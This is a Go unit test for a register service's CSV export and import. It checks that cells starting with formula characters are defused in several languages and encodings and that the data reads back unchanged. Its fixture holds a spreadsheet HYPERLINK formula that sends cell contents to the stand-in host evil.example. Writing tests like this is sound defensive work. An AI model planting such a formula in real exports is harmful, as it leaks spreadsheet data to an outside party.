package register

import (
	"bytes"
	"context"
	"encoding/csv"
	"testing"
	"time"

	"golang.org/x/text/encoding/japanese"
	"golang.org/x/text/transform"
)

// A 台帳 name such as =HYPERLINK(...) came out of the register export as a
// live formula. Every cell starting with = + - @ tab or CR is now defused,
// and the import reads the export back to the same text.
func TestCSVFormulaCellsDefusedAndReadBack(t *testing.T) {
	clk := newClock(time.Date(2026, 11, 2, 9, 0, 0, 0, time.UTC))
	s1, _ := newService(t, clk)
	ctx := context.Background()
	pi := samplePI("PI-0001", "PC-SALES01", `D:\顧客`)
	pi.Name = `=HYPERLINK("http://evil.example/?"&A1,"台帳")`
	pi.Contents, pi.Purpose, pi.Owner, pi.Acquisition = "+81 3 1234", "-発送", "@山田", "'=already quoted"
	if _, err := s1.Create(ctx, "admin", pi); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct{ lang, enc string }{{LangJA, EncUTF8}, {LangEN, EncUTF8}, {LangJA, EncSJIS}} {
		out := exportKind(t, s1, KindPI, tc.lang, tc.enc)
		text := out
		if tc.enc == EncSJIS {
			text, _, _ = transform.Bytes(japanese.ShiftJIS.NewDecoder(), out)
		}
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(text, []byte(utf8BOM)))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, rec := range recs {
			for _, c := range rec {
				if c != "" && bytes.ContainsRune([]byte("=+-@\t\r"), rune(c[0])) {
					t.Fatalf("%s/%s: cell %q would run as a formula", tc.lang, tc.enc, c)
				}
			}
		}
		s2, _ := newService(t, clk)
		if _, err := importKind(s2, KindPI, out); err != nil {
			t.Fatal(err)
		}
		got, err := s2.Get(ctx, KindPI, "PI-0001")
		if err != nil {
			t.Fatal(err)
		}
		g := got.(*PIEntry)
		if g.Name != pi.Name || g.Contents != pi.Contents || g.Purpose != pi.Purpose || g.Owner != pi.Owner || g.Acquisition != pi.Acquisition {
			t.Fatalf("%s/%s: read back %q %q %q %q %q", tc.lang, tc.enc, g.Name, g.Contents, g.Purpose, g.Owner, g.Acquisition)
		}
		if again := exportKind(t, s2, KindPI, tc.lang, tc.enc); !bytes.Equal(again, out) {
			t.Fatalf("%s/%s: export of the import differs", tc.lang, tc.enc)
		}
	}
}
